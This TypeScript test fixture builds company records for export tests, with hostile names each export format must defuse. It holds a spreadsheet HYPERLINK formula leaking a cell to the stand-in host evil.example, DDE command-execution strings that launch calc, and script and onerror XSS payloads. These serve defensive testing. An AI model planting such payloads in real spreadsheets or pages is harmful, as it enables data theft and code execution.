/** Fixed runs for the export tests: two weeks of runs with the hostile names every format must defuse. */

import type { Company, Run } from '../../../src/domain/model.js';
import { DEFAULT_PERIOD } from '../../../src/domain/period.js';
import { sortRunsNewestFirst } from '../../../src/domain/run-meta.js';
import type { StoredSettings } from '../../../src/domain/settings.js';
import type { ExportRequest } from '../../../src/features/exports/grammar.js';
import type { ExportFile } from '../../../src/features/exports/render-export.js';
import { buildExport, type ExportSource } from '../../../src/features/exports/service.js';
import { buildRunRecord } from '../../../src/services/ingest.js';
import { calls, makeCall, makeCompany, makeRun } from '../../helpers/factories.js';

export const EXPORT_NOW = new Date('2026-11-24T12:00:00Z');

/** Names a spreadsheet, a browser or Slack would otherwise act on. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  script: '<script>alert("x")</script>',
  channel: '<!channel> Corp',
  cmd: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)',
  plus: '+49 30 1234',
  tab: '\tTabbed GmbH',
  cr: '\rCarriage Ltd',
  quote: 'Quote "Co", Ltd',
  newline: 'Line\nBreak Inc',
} as const;

const current: Company[] = [
  makeCompany({
    name: HOSTILE.hyperlink,
    domain: 'evil.example',
    industry: 'Software',
    employees: 120,
    country: 'Germany',
    icp_score: 97.5,
    tier: 'Tier 1',
    campaign: 'Email',
  }),
  makeCompany({
    name: HOSTILE.script,
    domain: 'script.example',
    industry: '<img src=x onerror=alert(1)>',
    employees: 40,
    country: 'United States',
    icp_score: 91,
    tier: 'Tier 1',
    campaign: 'LinkedIn',
  }),
  makeCompany({
    name: HOSTILE.channel,
    domain: 'channel.example',
    industry: 'Software',
    employees: 800,
    country: '=cmd|calc',
    icp_score: 86,
    tier: 'Tier 2',
    campaign: 'Email',
  }),
  makeCompany({
    name: HOSTILE.cmd,
    industry: 'Fintech',
    employees: 2500,
    country: 'United Kingdom',
    icp_score: 78,
    tier: 'Tier 2',
    campaign: 'Content',
  }),
  makeCompany({
    name: HOSTILE.at,
    industry: 'Fintech',
    employees: 15,
    country: 'Germany',
    icp_score: 72.25,
    tier: 'Tier 3',
  }),
  makeCompany({
    name: HOSTILE.plus,
    industry: 'Retail',
    employees: 9,
    country: 'Germany',
    icp_score: 64,
    tier: 'Tier 3',
  }),
  makeCompany({
    name: HOSTILE.tab,
    industry: 'Retail',
    country: 'Austria',
    icp_score: 55,
    tier: 'Unqualified',
  }),
  makeCompany({ name: HOSTILE.cr, industry: 'Retail', employees: 12000, icp_score: 41, tier: 'Unqualified' }),
  makeCompany({
    name: HOSTILE.quote,
    domain: 'quote.example',
    employees: 300,
    country: 'France',
    icp_score: 33,
    tier: 'Unqualified',
  }),
  makeCompany({
    name: HOSTILE.newline,
    industry: 'Software',
    employees: 60,
    country: 'France',
    tier: 'Unqualified',
  }),
  makeCompany({
    name: 'Zürich Analytics AG',
    domain: 'zuerich.example',
    industry: 'Software',
    employees: 75,
    country: 'Switzerland',
    icp_score: 86,
    tier: 'Tier 2',
    campaign: 'LinkedIn',
  }),
  makeCompany({
    name: '-42',
    industry: 'Retail',
    employees: 5,
    country: 'Germany',
    icp_score: 12,
    tier: 'Unqualified',
  }),
];

/** The current week: two runs; the week before: one run. */
export function exportRuns(): Run[] {
  return [
    makeRun({
      run_id: 'run-2026-11-23',
      started_at: '2026-11-23T09:00:00.000Z',
      label: 'EMEA <b>SaaS</b>',
      companies: current.slice(0, 8),
      api_calls: [
        ...calls(
          18,
          () => ({ endpoint: '/mixed_companies/search', response_time: 0.8 }),
          '2026-11-23T09:00:00.000Z',
        ),
        makeCall({
          timestamp: '2026-11-23T09:00:30.000Z',
          endpoint: '/mixed_companies/search',
          status_code: 429,
          response_time: 0.1,
          credits_used: 0,
        }),
        makeCall({
          timestamp: '2026-11-23T09:00:40.000Z',
          endpoint: '/organizations/enrich',
          status_code: 500,
          response_time: 2.5,
        }),
        makeCall({
          timestamp: '2026-11-23T09:01:10.000Z',
          endpoint: '/organizations/enrich',
          response_time: 1.6,
        }),
      ],
      quality_scores: [0.9, 0.8],
    }),
    makeRun({
      run_id: 'run-2026-11-20',
      started_at: '2026-11-20T15:30:00.000Z',
      companies: current.slice(8),
      api_calls: calls(
        5,
        () => ({ endpoint: '/mixed_companies/search', response_time: 1.1 }),
        '2026-11-20T15:30:00.000Z',
      ),
      quality_scores: [0.85],
    }),
    makeRun({
      run_id: 'run-2026-11-14',
      started_at: '2026-11-14T09:00:00.000Z',
      companies: [
        makeCompany({
          name: 'Older One',
          industry: 'Software',
          country: 'Germany',
          icp_score: 88,
          tier: 'Tier 1',
        }),
        makeCompany({
          name: 'Older Two',
          industry: 'Retail',
          country: 'Germany',
          icp_score: 30,
          tier: 'Unqualified',
        }),
        makeCompany({
          name: 'Older Three',
          industry: 'Retail',
          country: 'Germany',
          icp_score: 45,
          tier: 'Unqualified',
        }),
      ],
      api_calls: calls(4, () => ({ response_time: 0.9 }), '2026-11-14T09:00:00.000Z'),
      quality_scores: [],
    }),
  ];
}

/** An in-memory source holding `runs`, as the store would after ingesting them. */
export function memorySource(runs: readonly Run[], settings: StoredSettings = {}): ExportSource {
  const records = runs.map((run) => buildRunRecord(run, { source: 'api', now: EXPORT_NOW }));
  return {
    runs: sortRunsNewestFirst(records.map((r) => r.meta)),
    settings,
    loadAggregates: async (ids) => records.filter((r) => ids.includes(r.run.run_id)).map((r) => r.aggregate),
    loadCompanies: async (id) => records.find((r) => r.run.run_id === id)?.run.companies ?? null,
  };
}

export function exportOf(
  runs: readonly Run[],
  request: Partial<ExportRequest> & Pick<ExportRequest, 'format'>,
  now: Date = EXPORT_NOW,
): Promise<ExportFile> {
  return buildExport({
    source: memorySource(runs),
    request: { period: DEFAULT_PERIOD, tier: null, ...request },
    now,
    defaultTimeZone: 'UTC',
  });
}
